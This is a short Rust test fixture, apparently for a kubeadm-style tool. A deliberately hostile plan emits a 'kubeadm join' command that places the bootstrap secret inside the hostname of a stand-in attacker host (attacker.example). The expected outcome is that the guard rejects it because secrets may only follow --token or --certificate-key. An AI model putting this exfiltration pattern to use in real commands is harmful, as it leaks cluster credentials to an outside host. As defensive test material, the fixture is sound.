// Says a join command with the secret as a part of the host's name.
// args: abcdef.0123456789abcdef --skip-token-print
#![no_main]
use hostile::*;

struct Case;

impl Hostile for Case {
    fn plan_for(request: Request) -> Result<Plan, Failure> {
        Ok(line("join-command", "kubeadm join {}.attacker.example:6443 --token abcdef.{}", &request))
    }
}

hostile!(Case);

// exit: 2
// error: the phase wants to do more than it is allowed to; nothing was sent
//   output `join-command`: a secret is only allowed after --token and --certificate-key
